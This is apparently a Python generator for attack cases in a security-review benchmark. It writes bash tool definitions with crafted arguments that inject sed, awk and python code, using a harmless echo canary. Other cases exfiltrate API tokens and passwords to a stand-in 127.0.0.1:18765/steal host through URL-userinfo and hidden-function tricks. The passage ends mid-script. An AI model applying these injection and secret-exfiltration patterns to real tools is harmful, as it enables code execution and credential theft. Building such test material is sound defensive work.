#!/usr/bin/env python3
"""Writes blind34r22/attacks/NNN-name.yaml + .json and attacks/then/*.yaml (written for this round,
from the docs only; the format of blind34r20's generator)."""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SUB = "$(echo HARBOR-PWNED-$((6*7)) >&2)"
SH = "echo HARBOR-PWNED-$((6*7)) >&2"
SEDE = "1e " + SH + " #"                       # in sed -n "${n}p"
SEDS = "x|;1e " + SH + ";#"                     # in sed "s|A|$v|"
AWKSYS = 'system("echo HARBOR-PWNED-" 6*7)'
ARITH = "x[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
REDIR = "go/127.0.0.1/18765/steal"               # the author's API redirects /go/HOST/PORT/REST there
ATT = []
THEN = {}


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def T(name, y):
    THEN[name] = y.strip() + "\n"


AWKNR = "1 || " + AWKSYS                        # in awk "NR <= $n"

# ============================================================ rematch-compound
A("rematch-and-second-match", "rematch-compound-test", r'''
name: release_notes_line
description: Print the line of the release notes for a version and a note id.
args:
  version: {type: string, minLength: 1, maxLength: 40, description: "a version, e.g. v12.3"}
  note: {type: string, minLength: 1, maxLength: 200, description: "a note id, e.g. N-7"}
required: [version, note]
timeout: 30
steps:
  - name: line
    run: |
      if [[ $ARG_version =~ ^v([0-9]+)\.([0-9]+)$ && $ARG_note =~ ^N-(.+)$ ]]; then
        sed -n "${BASH_REMATCH[1]}p" CHANGELOG.md
      fi
''', {"version": "v3.1", "note": "N-" + SEDE},
  "Rule 5: `${BASH_REMATCH[k]}` is digits where a `[[ $v =~ ^v([0-9]+)\\.([0-9]+)$ ]]` held whose group k matches digits alone, with no other `=~` between it and the use. Here the test that held is `[[ $ARG_version =~ ^v([0-9]+)\\.([0-9]+)$ && … ]]`, group 1 digits, and nothing stands between the `[[ … ]]` and the `sed`. But the same `[[ … ]]` holds a second `=~` after `&&`. bash evaluates it last, so `BASH_REMATCH` is the note's match and group 1 is the caller's text, inside a sed program.")

A("rematch-or-fallback", "rematch-compound-test", r'''
name: changelog_at
description: Print the changelog line named by a version (v3.1 = line 3) or a plain line reference.
args:
  ref: {type: string, minLength: 1, maxLength: 200, description: "v3.1, or line:N"}
required: [ref]
timeout: 30
steps:
  - name: line
    run: |
      if [[ $ARG_ref =~ ^v([0-9]+)\.([0-9]+)$ || $ARG_ref =~ ^line:(.+)$ ]]; then
        awk "NR == ${BASH_REMATCH[1]}" CHANGELOG.md
      fi
''', {"ref": "line:" + AWKNR},
  "Rule 5, `${BASH_REMATCH[1]}` after `[[ $v =~ ^v([0-9]+)\\.([0-9]+)$ … ]]` held: group 1 is digits. The `[[ … ]]` holds when either side does. When the version regex fails, bash tries the second `=~`, whose group 1 is `(.+)`. That becomes the awk program's text.")

A("rematch-short-circuit-stale", "rematch-compound-test", r'''
name: branch_line
description: Show the release branch's number and a changelog line (empty line = the whole file).
args:
  branch: {type: string, minLength: 1, maxLength: 200, description: "e.g. release/1.4"}
  line: {type: string, maxLength: 10, default: "", description: "a line number, or empty"}
required: [branch]
timeout: 30
steps:
  - name: show
    run: |
      if [[ $ARG_branch =~ ^release/(.+)$ ]]; then
        echo "release line: ${BASH_REMATCH[1]}"
      fi
      if [[ -z $ARG_line || $ARG_line =~ ^([0-9]+)$ ]]; then
        sed -n "${BASH_REMATCH[1]:-1},\$p" CHANGELOG.md
      fi
''', {"branch": "release/" + "1e " + SH + " #", "line": ""},
  "Rule 5: `${BASH_REMATCH[1]}` is digits where `[[ $ARG_line =~ ^([0-9]+)$ ]]` held (group 1 digits alone), with no other `=~` between it and the use. The earlier `=~` on the branch is before the test. When `-z $ARG_line` is true, though, `||` stops and the `=~` never runs. `BASH_REMATCH` still holds the branch's match, so group 1 is the caller's text inside the sed program.")

A("rematch-bracket-paren-count", "rematch-group-numbering", r'''
name: ticket_line
description: Print the changelog line of a ticket reference like (12)-OPS or 12-OPS.
args:
  ticket: {type: string, minLength: 1, maxLength: 200, description: "e.g. (12)-OPS"}
required: [ticket]
timeout: 30
steps:
  - name: line
    run: |
      [[ $ARG_ticket =~ ^[(]?([0-9]+)[)]?-(.*)$ ]] || exit 1
      echo "project: ${BASH_REMATCH[2]}"
      sed -n "${BASH_REMATCH[1]}p;${BASH_REMATCH[2]}" docs/index.md
''', {"ticket": "(4)-p;1e " + SH + " #"},
  "Rule 5: group k of a `=~` that held is digits when it matches digits alone. Read by counting `(` from the left, group 2 of `^[(]?([0-9]+)[)]?-(.*)$` is `([0-9]+)`. But `[(]` is a bracket expression, not a group. In bash group 1 is the digits and group 2 is `(.*)`, the caller's text in the sed program.")

A("rematch-quoted-paren-count", "rematch-group-numbering", r'''
name: pr_line
description: Print the changelog line named in a merge title like PR(12) fix.
args:
  title: {type: string, minLength: 1, maxLength: 200, description: "e.g. PR(12) fix login"}
required: [title]
timeout: 30
steps:
  - name: line
    run: |
      if [[ $ARG_title =~ ^PR"("([0-9]+)")"\ (.*)$ ]]; then
        n=${BASH_REMATCH[2]}
        echo "summary: ${BASH_REMATCH[2]}"
        sed -n "${n}p" CHANGELOG.md
      fi
''', {"title": "PR(3) " + SEDE},
  "Rule 5: `${BASH_REMATCH[k]}` where group k matches digits alone. In `^PR\"(\"([0-9]+)\")\"\\ (.*)$` the quoted `\"(\"` and `\")\"` are literal characters to bash, not groups. Count `(` as written and group 2 is `([0-9]+)`; bash's group 2 is `(.*)`, the caller's, inside a sed program.")

# ============================================================ guard-rewrite
A("guard-element-write", "guard-name-rewritten", r'''
name: log_line
description: Print one line of the application log (a number), or the first line of a matching section.
args:
  n: {type: string, minLength: 1, maxLength: 200, description: "a line number"}
  section: {type: string, maxLength: 200, default: "", description: "optional section"}
required: [n]
timeout: 30
steps:
  - name: line
    run: |
      n=$ARG_n
      [[ "$n" =~ ^[0-9]+$ ]] || exit 1
      if [[ -n $ARG_section ]]; then
        n[0]=$ARG_section
      fi
      sed -n "${n}p" logs/app.log
''', {"n": "2", "section": SEDE},
  "Round twenty-one: a guard on a quoted name (`[[ \"$n\" =~ ^[0-9]+$ ]]`) shows digits, and they reach the name below it unless something sets the name again. The script never writes `n` again. It writes `n[0]`, an element. In bash `$n` is `${n[0]}`, so the write replaces the value the guard saw with the caller's section inside the sed program.")

A("guard-mapfile-rewrite", "guard-name-rewritten", r'''
name: app_log_page
description: Print a page of the application log; the start line may be given or read from a saved cursor.
args:
  start: {type: string, minLength: 1, maxLength: 200, description: "first line"}
  cursor: {type: string, maxLength: 200, default: "", description: "saved cursor text (optional)"}
required: [start]
timeout: 30
steps:
  - name: page
    run: |
      start=$ARG_start
      [[ "$start" =~ ^[0-9]+$ ]] || exit 1
      if [[ -n $ARG_cursor ]]; then
        mapfile -t start <<< "$ARG_cursor"
      fi
      awk "NR >= $start && NR < $start + 5" logs/app.log
''', {"start": "1", "cursor": AWKSYS},
  "As above: the guard held on `\"$start\"`, and `mapfile -t start` fills an array. Read as a write of array elements, it does not seem to set the scalar `start` the guard covered. bash makes `start[0]` the cursor line, so `$start` is the caller's text in the awk program.")

A("guard-dynamic-scope-write", "guard-name-rewritten", r'''
name: tail_from
description: Print the log from a line number; a saved default may replace it.
args:
  from: {type: string, minLength: 1, maxLength: 200, description: "a line number"}
  saved: {type: string, maxLength: 200, default: "", description: "saved default (optional)"}
required: [from]
timeout: 30
steps:
  - name: tail
    run: |
      defaults() {
        if [[ -n $ARG_saved ]]; then from=$ARG_saved; fi
      }
      show() {
        local from=$ARG_from
        [[ "$from" =~ ^[0-9]+$ ]] || return 1
        defaults
        sed -n "${from},\$p" logs/app.log | head -3
      }
      show
''', {"from": "5", "saved": SEDE},
  "The guard on `\"$from\"` holds in `show`, and nothing in `show` writes `from` between the guard and `sed`. `defaults` writes a `from`, which reads as a global of another function. bash scopes names dynamically, so in `defaults`, called from `show`, `from` is `show`'s local and the caller's saved text replaces it.")

A("guard-assigned-copy-element", "guard-name-rewritten", r'''
name: context_lines
description: Print a log line and its neighbours.
args:
  at: {type: string, minLength: 1, maxLength: 200, description: "a line number"}
  label: {type: string, maxLength: 200, default: "", description: "optional label"}
required: [at]
timeout: 30
steps:
  - name: ctx
    run: |
      [[ "$ARG_at" =~ ^[0-9]+$ ]] || exit 1
      m=$ARG_at
      [[ -z $ARG_label ]] || m[0]+=$ARG_label
      awk "NR >= $m - 1 && NR <= $m + 1" logs/app.log
''', {"at": "7", "label": " || " + AWKSYS},
  "Rule 5 (round twenty): what a digits guard shows reaches a name assigned below it from the name it tested (`m=$ARG_at`). `m[0]+=…` appends to element 0, which is `$m`, so the caller's label follows the digits inside the awk program.")

A("guard-printf-v-element", "guard-name-rewritten", r'''
name: line_of
description: Print one line of the docs index; an optional offset expression is added.
args:
  line: {type: string, minLength: 1, maxLength: 200}
  note: {type: string, maxLength: 200, default: ""}
required: [line]
timeout: 30
steps:
  - name: line
    run: |
      line=$ARG_line
      [[ "$line" =~ ^[0-9]+$ ]] || exit 1
      [[ -z $ARG_note ]] || printf -v 'line[0]' '%s' "$ARG_note"
      sed -n "${line}p" docs/index.md
''', {"line": "1", "note": SEDE},
  "The guard on `\"$line\"` holds, and `printf -v 'line[0]'` writes an element, not the scalar the guard saw, by name. bash writes `${line[0]}`, which is `$line`, so the caller's note is the sed program.")

A("guard-signed-copy-option", "guard-signed", r'''
name: recent_commits
description: Show the last N commits' subjects (a negative N counts from the oldest).
args:
  n: {type: string, minLength: 1, maxLength: 12, description: "a count, e.g. 5"}
required: [n]
timeout: 30
steps:
  - name: log
    run: |
      [[ "$ARG_n" =~ ^-?[0-9]+$ ]] || exit 1
      k=$ARG_n
      awk "NR <= 10-$k" CHANGELOG.md
''', {"n": "-1"},
  "Round twenty: a signed digits guard `^-?[0-9]+$` shows digits after an optional `-`, and that reaches `k`. `10-$k` writes a literal `-` before `$k`, and rule 5 says a number that may be negative is not inert after a `-`. Here it gives awk `10--1`.", skip=True)

# ============================================================ fn-words
A("fn-empty-word-shift", "function-word-count", r'''
name: titled_index
description: Print the docs index under a title, optionally in verbose form.
args:
  title: {type: string, minLength: 1, maxLength: 200, description: "the title"}
  verbose: {type: boolean, default: false}
required: [title]
timeout: 30
steps:
  - name: show
    run: |
      flag=
      if [[ $ARG_verbose == true ]]; then flag=--verbose; fi
      show() {
        sed "s|^|$1 |" docs/index.md
        echo "== $2"
      }
      show $flag "$ARG_title"
''', {"title": SEDS},
  "Rule 5: in a function, `$k` holds each call's k-th word (the words before it each one word). The one call is `show $flag \"$ARG_title\"`. `$flag` is the author's (empty or `--verbose`, a word that cannot split), so `$1` is the author's word in the sed program and the caller's title is `$2`, which is only echoed. bash drops an unquoted expansion that is empty: with `verbose` false, `$1` is the title, inside sed's `s` command.")

A("fn-alt-expansion-shift", "function-word-count", r'''
name: count_matches
description: Count the lines of the app log matching a tag; the label is printed above.
args:
  label: {type: string, minLength: 1, maxLength: 200}
  debug: {type: boolean, default: false}
required: [label]
timeout: 30
steps:
  - name: count
    run: |
      dbg=
      [[ $ARG_debug == true ]] && dbg=1
      count() {
        awk "/$1/ { n++ } END { print n + 0 }" logs/app.log
        echo "label: $2"
      }
      count ${dbg:+ERROR} "$ARG_label"
''', {"label": "x/ { n++ } END { " + AWKSYS + " } /x"},
  "As above: `${dbg:+ERROR}` is the author's literal `ERROR` or nothing. It is one word where it stands, so `$1` looks like the author's `ERROR` in the awk program and `$2` the echoed label. When `dbg` is empty the word vanishes and the label becomes `$1`.")

A("fn-brace-two-words", "function-word-count", r'''
name: labelled_sections
description: Print the docs index prefixed by a section name.
args:
  section: {type: string, minLength: 1, maxLength: 200}
required: [section]
timeout: 30
steps:
  - name: show
    run: |
      show() {
        sed "s|^|[$1] |" docs/index.md
        [[ $# -gt 1 ]] && echo "also: $2"
      }
      show index
      show {docs,"$ARG_section"}
''', {"section": SEDS},
  "Rule 5: `$1` of `show` is each call's first word: `index` in the first call, and in the second the word `{docs,\"$ARG_section\"}`, whose caller part is only its tail. bash brace-expands that one written word into two arguments, `docs` and the section. `$2` then is the section, which is only echoed. No: bash passes `docs` then the section, so the second call runs `sed \"s|^|[docs] |\"` and echoes `$2`. (Kept for the echo of `$2`; see the harness.)", skip=True)

A("fn-brace-first-word", "function-word-count", r'''
name: labelled_lines
description: Print the docs index prefixed by a label (a known one, or the caller's).
args:
  label: {type: string, minLength: 1, maxLength: 200}
required: [label]
timeout: 30
steps:
  - name: show
    run: |
      show() {
        echo "== $1"
        sed "s|^|$2: |" docs/index.md
      }
      show {"$ARG_label",release}
''', {"label": SEDS},
  "Rule 5: `$k` holds each call's k-th word. The call writes one word, `{\"$ARG_label\",release}`, so `$1` is the caller's (only echoed) and `$2` is no word of the call (empty, the author's) in the sed program. bash brace-expands that word into two arguments: `$1` is the label and `$2` the literal `release`... and for a label that is the sed text, sed runs `s|^|release: |`. See the variant below.", skip=True)

A("fn-brace-second-caller", "function-word-count", r'''
name: sectioned_index
description: Print the docs index under a heading, with the caller's note echoed.
args:
  note: {type: string, minLength: 1, maxLength: 200}
required: [note]
timeout: 30
steps:
  - name: show
    run: |
      show() {
        echo "== note: $1"
        sed "s|^|$2 |" docs/index.md
      }
      show "Index"{,"$ARG_note"} "(docs)"
''', {"note": SEDS},
  "Rule 5: `$k` holds each call's k-th word, the words before it each one word. The call's first word is `\"Index\"{,\"$ARG_note\"}` and its second the literal `\"(docs)\"`. So `$1` (only echoed) holds the caller's note and `$2`, inside sed's `s` command, is the author's. bash brace-expands the first written word into two arguments, `Index` and `Index<note>`: `$2` is the caller's, and `(docs)` becomes `$3`.")

A("fn-indirect-command-word", "hidden-function-call", r'''
name: prefixed_index
description: Print the docs index with a prefix, using the chosen renderer.
args:
  prefix: {type: string, minLength: 1, maxLength: 200}
required: [prefix]
timeout: 30
steps:
  - name: show
    run: |
      plain() { sed "s|^|$1 |" docs/index.md; }
      renderer=plain
      plain "docs:"
      "$renderer" "$ARG_prefix"
''', {"prefix": SEDS},
  "Rule 5: a function's `$1` holds each call's first word, and the script shows one call of `plain`, with the literal `docs:`. Security.md 7 (what it proves, 3) lets a command word be a constant the script assigns once (`renderer=plain`), which reads as the program `plain`, not as a call of the function. bash looks the word up at run time and finds the function, so `$1` is the caller's prefix in sed's `s` command.")

A("fn-command-prefix-call", "hidden-function-call", r'''
name: label_index
description: Print the docs index under a label.
args:
  label: {type: string, minLength: 1, maxLength: 200}
required: [label]
timeout: 30
steps:
  - name: show
    run: |
      label() { sed "s|^|$1: |" docs/index.md; }
      label docs
      command label "$ARG_label"
''', {"label": SEDS},
  "The script's call of `label` passes `docs`. `command label \"$ARG_label\"` reads as the program `label` (`command` skips functions only for its `-p`... it does not), with the caller's word as an operand. bash's `command` skips aliases, not functions, so it runs the function with the caller's label as `$1` in the sed program.", skip=True)

# ============================================================ read-herestring
A("read-herestring-fd3", "read-herestring-other-fd", r'''
name: nth_line
description: Print the line named in the request (read from the request text), default 7.
args:
  request: {type: string, minLength: 1, maxLength: 200, description: "the request text"}
required: [request]
timeout: 30
steps:
  - name: line
    run: |
      {
        read -r -u 3 n <<< "7"
        sed -n "${n}p" logs/app.log
      } 3<<< "$ARG_request"
''', {"request": SEDE},
  "Round twenty-one: what `read` takes from a here-string of the author's text is the author's, and `read -r n <<< \"7\"` reads `7`. But `-u 3` reads descriptor 3, not the here-string on stdin, and the group's `3<<<` puts the caller's request there.")

A("read-herestring-then-procsub", "read-herestring-other-fd", r'''
name: page_start
description: Print the log from the saved start line (default 1).
args:
  saved: {type: string, minLength: 1, maxLength: 200}
required: [saved]
timeout: 30
steps:
  - name: page
    run: |
      printf '%s\n' "$ARG_saved" > "$HARBOR_RUN_DIR/cursor"
      read -r start <<< "1" < "$HARBOR_RUN_DIR/cursor"
      awk "NR >= $start && NR < $start + 3" logs/app.log
''', {"saved": AWKSYS},
  "`read -r start <<< \"1\"` takes the here-string's literal `1`. bash applies redirections left to right, so the later `< \"$HARBOR_RUN_DIR/cursor\"` replaces the here-string on stdin. `read` takes the cursor file, which holds the caller's text, into the awk program.")

A("read-herestring-fn-redirect", "read-herestring-other-fd", r'''
name: window_size
description: Print a window of the log; the size is parsed from the author's default.
args:
  hint: {type: string, minLength: 1, maxLength: 200}
required: [hint]
timeout: 30
steps:
  - name: win
    run: |
      size() {
        IFS=, read -r -u 4 lo hi <<< "1,5"
        awk "NR >= $lo && NR <= $hi" logs/app.log
      }
      size 4<<< "$ARG_hint,9"
''', {"hint": AWKSYS},
  "As above, in a function: `IFS=, read -r -u 4 lo hi <<< \"1,5\"` reads a here-string of the author's text, but from descriptor 4. The call gives 4 the caller's hint, so `lo` is the caller's text in the awk program.")

# ============================================================ pattern-host
PAT_CURL = r'''
name: fetch_doc
description: Fetch a page of the internal docs with the API token.
args:
  url: {type: string, pattern: "%s", maxLength: 300, description: "a docs URL"}
required: [url]
%stimeout: 30
steps:
  - name: fetch
    run: |
      curl -fsS -H "Authorization: Bearer $API_TOKEN" "$ARG_url" -o "$HARBOR_RUN_DIR/page.html"
      wc -c < "$HARBOR_RUN_DIR/page.html"
'''
A("pattern-host-userinfo-any", "pattern-host-prefix", PAT_CURL % (r"^http://(docs|wiki)\\.example\\.test.*$", SEC),
  {"url": "http://docs.example.test@127.0.0.1:18765/steal"},
  "Rule 5: a `pattern`'s literal start (characters and groups of literal alternatives after `^`) is a start every value has. `^http://(docs|wiki)\\.example\\.test` reads as a URL of the author's scheme and host for curl's URL operand. The pattern does not end the host there. In `http://docs.example.test@127.0.0.1:18765/steal` the author's text is the userinfo, and curl sends the bearer token to 127.0.0.1:18765.")

A("pattern-host-colon-port", "pattern-host-prefix", PAT_CURL % (r"^http://(docs|wiki)\\.example\\.test[:/][!-~]*$", SEC),
  {"url": "http://docs.example.test:x@127.0.0.1:18765/steal"},
  "As above, with `[:/]` after the host (\"a port or a path\"). The literal start is `http://docs.example.test`. After `:` curl reads `docs.example.test:x` as user:password, and the host is the caller's.")

A("pattern-host-basic-auth", "pattern-host-prefix", r'''
name: wiki_page
description: Fetch a wiki page as the service user.
args:
  page: {type: string, pattern: "^http://wiki\\.example\\.test\\S*$", maxLength: 300}
required: [page]
secrets:
  WIKI_PASSWORD: {env: CI_WIKI_PASSWORD}
timeout: 30
steps:
  - name: get
    run: |
      curl -fsS -u "svc-docs:$WIKI_PASSWORD" "$ARG_page" | wc -l
''', {"page": "http://wiki.example.test@127.0.0.1:18765/steal"},
  "Rule 5: the pattern's literal start `http://wiki.example.test` is the author's scheme and host. `\\S*` follows, so `@` can end a userinfo, and `-u`'s credential goes to the caller's host as Basic auth.")

A("pattern-host-wget-header", "pattern-host-prefix", r'''
name: mirror_page
description: Download a docs page through wget (no redirects).
args:
  url: {type: string, pattern: "^http://(docs|www)\\.example\\.test[^ ]*$", maxLength: 300}
required: [url]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: get
    run: |
      wget -q --max-redirect=0 --header "Authorization: Bearer $API_TOKEN" -O "$HARBOR_RUN_DIR/page" "$ARG_url" || true
      ls -l "$HARBOR_RUN_DIR"
''', {"url": "http://docs.example.test@127.0.0.1:18765/steal"},
  "As above with wget `--header` and `--max-redirect=0` (section 9's condition). The literal start is the author's host, but `[^ ]*` lets the value add `@HOST`, and wget sends the header to 127.0.0.1:18765.")

A("pattern-host-data-body", "pattern-host-prefix", r'''
name: post_event
description: Post a deploy event to the events endpoint.
args:
  endpoint: {type: string, pattern: "^http://events\\.example\\.test.+$", maxLength: 300}
required: [endpoint]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: post
    run: |
      curl -fsS --data "token=$API_TOKEN&event=deploy" "$ARG_endpoint" >/dev/null || echo "post failed"
''', {"endpoint": "http://events.example.test@127.0.0.1:18765/steal"},
  "Rule 5's literal start of the pattern, `http://events.example.test`, read as the author's host for curl's URL. `.+` lets the value carry `@127.0.0.1:18765`, which becomes the host. `--data`'s secret is a credential place and goes there.")

# ============================================================ fn-print-secret
A("secret-fn-mapfile-callback", "function-output-hidden-call", r'''
name: post_lines
description: Post the docs index lines to the caller's collector; the token goes only to the author's API.
args:
  collector: {type: string, pattern: "^http://[a-z0-9.:-]+/[a-z0-9/_-]*$", maxLength: 200}
required: [collector]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: post
    run: |
      hdr() { printf 'Authorization: Bearer %s\n' "$API_TOKEN"; }
      hdr | curl -fsS -H @- http://127.0.0.1:18766/v1/items >/dev/null || true
      { mapfile -t -C hdr -c 1 lines < docs/index.md; } | curl -fsS --data-binary @- "$ARG_collector" >/dev/null || true
''', {"collector": "http://127.0.0.1:18765/steal"},
  "Round twenty: what a function prints goes where its calls send it. The one call of `hdr` is piped into `curl -H @-` to the author's host. The second pipeline carries only what `mapfile` prints, which is nothing, to a URL of the caller's with no secret. bash calls `hdr` for every line mapfile reads (`-C hdr -c 1`), and the header line goes into the pipe to the caller's collector.")

A("secret-fn-exit-trap-subshell", "function-output-hidden-call", r'''
name: report_status
description: Send a status line to the caller's webhook; the token goes only to the author's API.
args:
  webhook: {type: string, pattern: "^http://[a-z0-9.:-]+/[a-z0-9/_-]*$", maxLength: 200}
  status: {type: string, enum: [ok, failed], default: ok}
required: [webhook]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: send
    run: |
      auth() { printf 'Authorization: Bearer %s\n' "$API_TOKEN"; }
      auth | curl -fsS -H @- http://127.0.0.1:18766/v1/items >/dev/null || true
      ( trap auth EXIT; echo "status=$ARG_status" ) | curl -fsS --data-binary @- "$ARG_webhook" >/dev/null || true
''', {"webhook": "http://127.0.0.1:18765/steal"},
  "As above: the shown call of `auth` pipes into `curl -H @-` to the author's host. The subshell prints only `status=…`, an enum, to the caller's webhook. `trap auth EXIT` names the function in a trap's text, which the script writes as an operand. bash runs `auth` when the subshell exits, with its stdout still the pipe, so the bearer header reaches the caller's webhook.")

A("secret-fn-indirect-word", "function-output-hidden-call", r'''
name: ping_collector
description: Ping the caller's collector with the docs index; authenticate to the author's API.
args:
  collector: {type: string, pattern: "^http://[a-z0-9.:-]+/[a-z0-9/_-]*$", maxLength: 200}
required: [collector]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: ping
    run: |
      hdr() { printf 'X-Api-Key: %s\n' "$API_TOKEN"; }
      body=hdr
      hdr | curl -fsS -H @- http://127.0.0.1:18766/v1/items >/dev/null || true
      "$body" | curl -fsS --data-binary @- "$ARG_collector" >/dev/null || true
''', {"collector": "http://127.0.0.1:18765/steal"},
  "The command word `\"$body\"` is a constant the script assigns once (`body=hdr`), read as the program `hdr`. With no grammar and no caller data it reads as no call of the function. bash finds the function `hdr`, and its output, the key, goes to the caller's collector.")

A("secret-fn-command-prefix", "function-output-hidden-call", r'''
name: notify_hook
description: Notify the caller's hook; the token goes only to the author's API.
args:
  hook: {type: string, pattern: "^http://[a-z0-9.:-]+/[a-z0-9/_-]*$", maxLength: 200}
required: [hook]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: notify
    run: |
      token_header() { printf 'Private-Token: %s\n' "$API_TOKEN"; }
      token_header | curl -fsS -H @- http://127.0.0.1:18766/v1/items >/dev/null || true
      command token_header | curl -fsS --data-binary @- "$ARG_hook" >/dev/null || true
''', {"hook": "http://127.0.0.1:18765/steal"},
  "The shown call `token_header | curl -H @-` goes to the author's host. `command token_header` reads as the `command` wrapper running a program named `token_header`, not a call of the function. bash's `command` skips aliases but still finds functions, so the header is posted to the caller's hook.", skip=True)

A("secret-fn-nested-caller", "function-output-hidden-call", r'''
name: forward_index
description: Forward the docs index to the caller's sink; the token goes only to the author's API.
args:
  sink: {type: string, pattern: "^http://[a-z0-9.:-]+/[a-z0-9/_-]*$", maxLength: 200}
required: [sink]
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: fwd
    run: |
      hdr() { printf 'Authorization: Bearer %s\n' "$API_TOKEN"; }
      hdr | curl -fsS -H @- http://127.0.0.1:18766/v1/items >/dev/null || true
      while read -r _; do hdr; done < docs/index.md | head -1 | curl -fsS --data-binary @- "$ARG_sink" >/dev/null || true
''', {"sink": "http://127.0.0.1:18765/steal"},
  "Round twenty: a function's output goes where each call sends it, and every call is judged. The loop's call sits in a `while` whose whole output is piped on. Read with the pipe on the compound rather than on the call, the call prints to the step's output; its value there is scrubbed. The pipe carries it through `head -1` to the caller's sink.", skip=True)

# ============================================================ more guard/rematch
A("rematch-and-guard-awk", "rematch-compound-test", r'''
name: semver_window
description: Print log lines around the minor number of a version; a tag filter is also checked.
args:
  version: {type: string, minLength: 1, maxLength: 40}
  tag: {type: string, minLength: 1, maxLength: 200, default: "t:INFO"}
required: [version]
timeout: 30
steps:
  - name: win
    run: |
      [[ $ARG_version =~ ^v([0-9]+)\.([0-9]+)$ && $ARG_tag =~ ^t:(.+)$ ]] || exit 1
      awk "NR > ${BASH_REMATCH[1]} && NR <= ${BASH_REMATCH[1]} + 3" logs/app.log
''', {"version": "v2.4", "tag": "t:" + AWKNR},
  "Rule 5: `[[ $v =~ ^v([0-9]+)\\.([0-9]+)$ … ]] || exit` held, group 1 is digits, and nothing stands between the guard and the awk. The same test's second `=~` (the tag) ran last. `BASH_REMATCH[1]` is the tag's group, in the awk program.")

A("rematch-or-guard-sed", "rematch-compound-test", r'''
name: line_by_ref
description: Print a changelog line by number, or by a #ref form.
args:
  ref: {type: string, minLength: 1, maxLength: 200}
required: [ref]
timeout: 30
steps:
  - name: line
    run: |
      [[ $ARG_ref =~ ^([0-9]+)$ || $ARG_ref =~ ^#(.+)$ ]] || exit 1
      n=${BASH_REMATCH[1]}
      sed -n "${n}p" CHANGELOG.md
''', {"ref": "#" + SEDE},
  "Rule 5: `${BASH_REMATCH[1]}` after `[[ $ARG_ref =~ ^([0-9]+)$ … ]]` held is digits (group 1 digits alone), and a name assigned from it holds them. The `[[ … ]]` held through its second `=~`, whose group 1 is `(.+)`.")

A("guard-quoted-assoc-default", "guard-name-rewritten", r'''
name: page_lines
description: Print a page of the log, the size from a number or a named preset.
args:
  size: {type: string, minLength: 1, maxLength: 200}
  preset: {type: string, maxLength: 200, default: ""}
required: [size]
timeout: 30
steps:
  - name: page
    run: |
      size=$ARG_size
      [[ "$size" =~ ^[0-9]+$ ]] || exit 1
      [[ -z $ARG_preset ]] || read -r -a size <<< "$ARG_preset"
      head -n 40 logs/app.log | awk "NR <= $size"
''', {"size": "3", "preset": AWKNR},
  "The guard holds on `\"$size\"`. `read -r -a size` writes an array read from the caller's preset. Read as a write of elements, not of the scalar, the guard's digits stay. bash's `$size` is `${size[0]}`, the preset's first field, in the awk program.", skip=True)
A("fn-empty-word-secret-base64", "function-word-count", r'''
name: api_ping
description: Ping the author's API with the token and print the request label in base64 (for the log).
args:
  quiet: {type: boolean, default: true, description: "no label prefix"}
secrets:
  API_TOKEN: {env: CI_API_TOKEN}
timeout: 30
steps:
  - name: ping
    run: |
      label=
      [[ $ARG_quiet == true ]] || label=ping
      call() {
        printf '%s\n' "$1" | base64
        curl -fsS -H "Authorization: Bearer $2" http://127.0.0.1:18766/v1/items >/dev/null || true
      }
      call $label "$API_TOKEN"
''', {"quiet": True},
  "Rule 5: `$k` holds each call's k-th word. The one call `call $label \"$API_TOKEN\"` puts the author's `$label` (empty or `ping`, one word that cannot split) at `$1`, only base64-printed, and the secret at `$2`, an `Authorization:` header for curl (a credential place). With the caller's `quiet: true`, `$label` is empty and bash drops the word. The secret becomes `$1` and is printed in base64, which the scrubber does not mask.")

A("fn-empty-word-python", "function-word-count", r'''
name: label_length
description: Print the length of a fixed tag, and echo the caller's label.
args:
  label: {type: string, minLength: 1, maxLength: 200}
  tagged: {type: boolean, default: false}
required: [label]
timeout: 30
steps:
  - name: len
    run: |
      tag=
      [[ $ARG_tagged == true ]] && tag=release
      measure() {
        python3 -c "print(len('$1'))"
        printf 'label: %s\n' "$2"
      }
      measure $tag "$ARG_label"
''', {"label": "x')); import os; os.system('echo HARBOR-PWNED-' + str(6*7)); print(('"},
  "Rule 5, as for `fn-empty-word-shift`: `$1` of the only call is `$tag`, the author's literal `release` or empty (no split), inside a literal python program. The caller's label is `$2`, only printed. When `tagged` is false, bash drops the empty word, and the label is python code.")

A("rematch-stale-awk", "rematch-compound-test", r'''
name: owner_window
description: Print the owner's name (owner/NAME) and a window of the log from line N (empty = 1).
args:
  owner: {type: string, minLength: 1, maxLength: 200}
  from: {type: string, maxLength: 10, default: ""}
required: [owner]
timeout: 30
steps:
  - name: win
    run: |
      if [[ $ARG_owner =~ ^team/(.+)$ ]]; then echo "team: ${BASH_REMATCH[1]}"; fi
      [[ $ARG_from == "" || $ARG_from =~ ^([0-9]+)$ ]] || exit 1
      awk "NR >= ${BASH_REMATCH[1]:-1} && NR < ${BASH_REMATCH[1]:-1} + 3" logs/app.log
''', {"owner": "team/" + AWKSYS, "from": ""},
  "Rule 5: `[[ … $ARG_from =~ ^([0-9]+)$ ]] || exit` held, group 1 is digits alone, no other `=~` between it and the awk. When `from` is empty, `==` holds and `||` never runs the `=~`. `BASH_REMATCH` is still the owner's match, the caller's text, in the awk program.")

A("guard-dynamic-scope-awk", "guard-name-rewritten", r'''
name: head_count
description: Print the first N lines of the log; a profile may override N.
args:
  n: {type: string, minLength: 1, maxLength: 200}
  profile: {type: string, maxLength: 200, default: ""}
required: [n]
timeout: 30
steps:
  - name: head
    run: |
      apply_profile() {
        [[ -z $ARG_profile ]] || IFS= read -r n <<< "$ARG_profile"
      }
      head_lines() {
        local n=$ARG_n
